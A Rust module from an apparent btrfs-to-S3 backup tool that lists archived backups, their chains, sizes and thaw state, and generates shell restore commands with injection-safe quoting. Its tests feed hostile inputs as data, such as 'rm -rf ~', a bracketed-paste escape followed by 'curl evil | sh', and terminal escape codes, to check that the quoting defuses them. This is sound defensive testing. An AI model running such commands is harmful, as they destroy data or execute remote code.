//! Archives as chains: what can be restored, from when, how large, and how it is done by hand; and
//! what runs left.

use super::table::{Align, As, Bytes, Column, Rows, data, table};
use crate::archive::ArchiveState;
use crate::s3::S3Options;
use crate::snapshot::{Uuid, shown};
use crate::store::archive::index::Archive;
use crate::store::archive::manifest::{self, Manifest};
use crate::text::{counted, human};
use serde::{Serialize, Serializer};
use std::collections::HashMap;
use std::fmt;

/// An archive, to be shown.
#[derive(Debug, Serialize)]
pub struct Shown {
    archive: String,
    location: String,
    #[serde(serialize_with = "rows")]
    backups: Vec<Backup>,
    broken: Vec<Broken>,
    leftovers: Vec<Leftover>,
    strays: Vec<String>,
}

/// A backup, its chain and how it can be had.
#[derive(Debug)]
struct Backup {
    manifest_key: String,
    created_at: String,
    kind: String,
    /// Whether it can be restored, and whether it is what the pointer names.
    state: &'static str,
    why: Option<String>,
    snapshot: String,
    uuid: Option<Uuid>,
    parent: Option<(String, Option<String>)>,
    bytes: u64,
    /// What it takes to restore it; `None` if its chain is broken.
    chain_bytes: Option<u64>,
    chunks: usize,
    storage_class: String,
    /// `None` where chunks can be read at once.
    thaw: Option<&'static str>,
    /// How it is received by hand, after those that it builds on.
    command: Option<String>,
}

/// A manifest that cannot be read.
#[derive(Debug, Serialize)]
struct Broken {
    key: String,
    why: String,
}

#[derive(Debug, Serialize)]
struct Leftover {
    name: String,
    bytes: u64,
    latest: Option<i64>,
}

type Field = Column<Backup>;

/// `  newest       20261121T020000Z  incremental     1.2 GiB in 3  DEEP_ARCHIVE, frozen  NAME
/// (on 20261114T020000Z, 4.0 GiB in all)`
const COLUMNS: &[Field] = &[
    Field::text(1, |_| data("")).aligned(Align::Free, 0),
    Field::json("manifest_key", |b| data(&b.manifest_key)),
    Field::json("created_at", |b| {
        Box::new(As(shown(&b.created_at), &b.created_at))
    })
    .shown(3, ""),
    Field::json("kind", |b| Box::new(As(shown(&b.kind), &b.kind)))
        .shown(4, "")
        .aligned(Align::Left, 11),
    Field::json("state", |b| Box::new(b.state))
        .shown(2, "")
        .aligned(Align::Left, 11),
    Field::json("why", |b| data(&b.why)),
    Field::json("snapshot", |b| data(&b.snapshot)),
    Field::json("uuid", |b| data(b.uuid)),
    Field::json("parent_manifest", |b| {
        data(b.parent.as_ref().map(|(key, _)| key))
    }),
    Field::json("bytes", |b| data(b.bytes)),
    Field::json("chain_bytes", |b| data(b.chain_bytes)),
    Field::json("chunks", |b| data(b.chunks)),
    Field::text(5, |b| {
        let size = format!("{:>10}", Bytes(b.bytes));
        Box::new(format!("{size} in {}", b.chunks))
    })
    .aligned(Align::Free, 0),
    Field::json("storage_class", |b| data(&b.storage_class)),
    Field::json("thaw", |b| data(b.thaw)),
    Field::text(6, |b| {
        let state = b.thaw.map(|word| format!(", {word}")).unwrap_or_default();
        Box::new(format!("{}{state}", shown(&b.storage_class)))
    })
    .aligned(Align::Free, 0),
    Field::text(7, |b| {
        let command = b.command.as_ref().map(|line| format!("\n    {line}"));
        let command = command.unwrap_or_default();
        Box::new(format!("{}{}{command}", shown(&b.snapshot), b.remark()))
    }),
    Field::json("command", |b| data(&b.command)).optional(),
];

fn rows<S: Serializer>(backups: &[Backup], to: S) -> Result<S::Ok, S::Error> {
    Rows(COLUMNS, backups).serialize(to)
}

impl Shown {
    /// What there is in an archive at a place, `s3://bucket/prefix`; whether the chunks of each backup
    /// can be read, by the key of its manifest; and how the bucket is reached, if commands are wanted.
    pub fn of(
        archive: &Archive,
        (bucket, prefix): (&str, &str),
        states: &HashMap<String, ArchiveState>,
        reach: Option<&S3Options>,
    ) -> Shown {
        let unread = |key: &&String| !archive.manifests.contains_key(*key);
        let broken = archive.broken.keys().filter(unread);
        let leftovers = archive.leftovers.iter().map(|(name, left)| Leftover {
            name: name.clone(),
            bytes: left.bytes,
            latest: left.latest.map(jiff::Timestamp::as_second),
        });
        let backups = archive.in_order().into_iter().map(|(key, manifest)| {
            let command = reach.map(|reach| command(reach, bucket, manifest));
            let thaw = states.get(key).and_then(|state| word(*state));
            Backup {
                thaw,
                command,
                ..Backup::of(archive, key, manifest)
            }
        });
        Shown {
            archive: archive.name.clone(),
            location: format!("s3://{bucket}/{}", shown(prefix)),
            backups: backups.collect(),
            broken: broken
                .map(|key| Broken {
                    key: key.clone(),
                    why: archive.broken[key].clone(),
                })
                .collect(),
            leftovers: leftovers.collect(),
            strays: archive.strays.clone(),
        }
    }
}

impl Backup {
    fn of(archive: &Archive, key: &str, manifest: &Manifest) -> Backup {
        let all = &archive.manifests;
        let bytes = |link: &&str| all.get(*link).map_or(0, |manifest| manifest.total_bytes);
        let chain = manifest::chain(all, key).ok();
        let made = |parent: &String| Some(all.get(parent)?.created_at.clone());
        let parent = manifest.parent_manifest.as_ref();
        Backup {
            manifest_key: key.to_owned(),
            created_at: manifest.created_at.clone(),
            kind: manifest.kind.clone(),
            state: match archive.broken.get(key) {
                Some(_) => "broken",
                None if archive.current.as_deref() == Some(key) => "newest",
                None => "restorable",
            },
            why: archive.broken.get(key).cloned(),
            snapshot: manifest.snapshot.name.clone(),
            uuid: archive.id(key).filter(|_| archive.is_known(key)),
            parent: parent.map(|parent| (parent.clone(), made(parent))),
            bytes: manifest.total_bytes,
            chain_bytes: chain.map(|chain| chain.iter().map(bytes).sum()),
            chunks: manifest.chunks.len(),
            storage_class: manifest.s3.storage_class.clone(),
            thaw: None,
            command: None,
        }
    }

    fn remark(&self) -> String {
        match (&self.why, &self.parent) {
            (Some(why), _) => format!(" ({why})"),
            (None, Some((_, made))) => {
                let all = human(self.chain_bytes.unwrap_or(0));
                format!(
                    " (on {}, {all} in all)",
                    shown(made.as_deref().unwrap_or("-"))
                )
            }
            (None, None) => String::new(),
        }
    }
}

impl fmt::Display for Shown {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let (name, count) = (shown(&self.archive), counted(self.backups.len(), "backup"));
        let mut text = format!("{name}: {count} in {}\n", self.location);
        text += &table(COLUMNS, &self.backups);
        for Broken { key, why } in &self.broken {
            text += &format!("  broken       {}: {why}\n", shown(key));
        }
        for left in &self.leftovers {
            let (name, size) = (shown(&left.name), human(left.bytes));
            text += &format!("  unfinished   {name}: {size} left by a run that did not end\n");
        }
        for key in &self.strays {
            text += &format!("  stray        {} belongs to no backup\n", shown(key));
        }
        f.write_str(text.trim_end_matches('\n'))
    }
}

/// Whether chunks can be read, in a word; none for what can be read as always.
fn word(state: ArchiveState) -> Option<&'static str> {
    match state {
        ArchiveState::Readable => None,
        ArchiveState::Frozen => Some("frozen"),
        ArchiveState::Thawing => Some("thawing"),
        ArchiveState::Thawed(_) => Some("thawed"),
    }
}

fn command(reach: &S3Options, bucket: &str, manifest: &Manifest) -> String {
    let mut aws = "aws".to_owned();
    if let Some(region) = &reach.region {
        aws += &format!(" --region {}", quoted(region));
    }
    if let Some(url) = &reach.endpoint_url {
        aws += &format!(" --endpoint-url {}", quoted(url));
    }
    let fetch = |key: &str| {
        let url = format!("s3://{bucket}/{key}");
        format!("{aws} s3 cp {} -", quoted(&url))
    };
    let chunks = manifest.chunks.iter();
    let all: Vec<String> = chunks.map(|chunk| fetch(&chunk.key)).collect();
    match &all[..] {
        [one] => format!("{one} | btrfs receive ."),
        _ => format!("{{ {}; }} | btrfs receive .", all.join(" && ")),
    }
}

/// A word for the shell, and for the terminal that it is shown on and pasted into: what would do
/// something there is written as `$'...'` has it, which bash, zsh and ksh understand.
fn quoted(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        return word.to_owned();
    }
    // What is shown as something else has a character that does something.
    if shown(word) == word.replace('\\', "\\\\") {
        return format!("'{}'", word.replace('\'', "'\\''"));
    }
    let byte = |byte: u8| match byte {
        b'\'' | b'\\' => format!("\\{}", char::from(byte)),
        b' '..=b'~' => char::from(byte).to_string(),
        _ => format!("\\{byte:03o}"),
    };
    format!("$'{}'", word.bytes().map(byte).collect::<String>())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_for_the_shell() {
        assert_eq!(quoted("s3://b/k-1.bin"), "s3://b/k-1.bin");
        assert_eq!(quoted("a b"), "'a b'");
        assert_eq!(quoted("it's"), "'it'\\''s'");
        assert_eq!(quoted(""), "''");
        assert_eq!(quoted("\u{fc}\\"), "'\u{fc}\\'");
    }

    /// ESC, newlines, the end of a bracketed paste, a control of eight bits, a mark that turns text
    /// around.
    #[test]
    fn pasted_keys_do_no_harm() {
        for key in [
            "k\u{1b}]0;owned\u{7}\u{1b}[2J",
            "x\nrm -rf ~\n",
            "x\u{1b}[201~\ncurl evil | sh\n",
            "a\u{9b}31m'\\",
            "b\u{202e}gnp.exe",
            "\r\t\0".trim_end_matches('\0'),
        ] {
            let word = quoted(key);
            assert!(
                word.bytes().all(|byte| (b' '..=b'~').contains(&byte)),
                "{word}"
            );
            let echo = ["-c".to_owned(), format!("printf %s {word}")];
            let said = std::process::Command::new("bash")
                .args(echo)
                .output()
                .unwrap();
            assert_eq!(said.stdout, key.as_bytes(), "{word}");
        }
    }
}
